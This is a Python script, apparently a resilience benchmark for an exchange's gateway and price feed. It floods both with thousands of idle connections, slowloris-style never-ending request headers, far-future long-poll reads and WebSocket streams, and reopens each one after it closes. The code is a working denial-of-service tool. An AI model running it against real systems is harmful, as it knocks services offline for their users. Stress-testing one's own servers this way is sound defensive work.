"""Connections without end: a program that attacks an exchange until it is ended.

    python -m benchmarks.connection_flood GATEWAY_URL FEED_URL

On gateway and feed each it keeps idle connections and ones whose head never ends, and on the feed
reads that wait for an event of the far future and streams of prices. Whatever is closed it opens
again after a second. It says `flooding` once everything has been tried.
"""

import asyncio
import contextlib
import resource
import sys
from collections.abc import Callable, Coroutine
from typing import Any
from urllib.parse import urlsplit

import uvloop

IDLE = 2_100
SLOW_HEADS = 200
WAITING_READS = 2_000
PRICE_STREAMS = 1_000
PAUSE_SECONDS = 1.0
_AT_ONCE = 100

_WAITING_READ = b"GET /securities?min_seq=9007199254740991 HTTP/1.1\r\nHost: %b\r\n\r\n"
_PRICE_STREAM = (
    b"GET /stream/price HTTP/1.1\r\nHost: %b\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
    b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n"
)

Hold = Callable[[asyncio.StreamReader, asyncio.StreamWriter], Coroutine[Any, Any, None]]


def _begin_with(request: bytes) -> Hold:
    """Send something, and read until the server ends it."""

    async def hold(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(request)
        while await reader.read(65_536):
            pass

    return hold


async def _never_end(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Send a head, a byte each second."""
    writer.write(b"GET / HTTP/1.1\r\nX: ")
    end = asyncio.create_task(reader.read())
    while not end.done():
        writer.write(b"x")
        await asyncio.wait([end], timeout=1)
    end.result()


async def _keep(host: str, port: int, hold: Hold, turn: asyncio.Semaphore) -> None:
    """One connection, again and again."""
    while True:
        with contextlib.suppress(OSError):
            async with turn:
                reader, writer = await asyncio.open_connection(host, port)
            try:
                await hold(reader, writer)
            finally:
                writer.close()
        await asyncio.sleep(PAUSE_SECONDS)


async def flood(gateway_url: str, feed_url: str) -> None:
    """Attack for as long as this is not cancelled."""
    turn = asyncio.Semaphore(_AT_ONCE)
    gateway, feed = urlsplit(gateway_url).netloc, urlsplit(feed_url).netloc
    wanted: list[tuple[str, int, Hold]] = [
        (where, number, hold)
        for where in (gateway, feed)
        for number, hold in ((IDLE, _begin_with(b"")), (SLOW_HEADS, _never_end))
    ]
    wanted.append((feed, PRICE_STREAMS, _begin_with(_PRICE_STREAM % feed.encode())))
    wanted.append((feed, WAITING_READS, _begin_with(_WAITING_READ % feed.encode())))
    async with asyncio.TaskGroup() as group:
        for where, number, hold in wanted:
            host, _, port = where.partition(":")
            for _ in range(number):
                group.create_task(_keep(host, int(port), hold, turn))
        async with turn:  # whose turn comes after that of all others
            print("flooding", flush=True)


if __name__ == "__main__":
    _soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    uvloop.run(flood(sys.argv[1], sys.argv[2]))
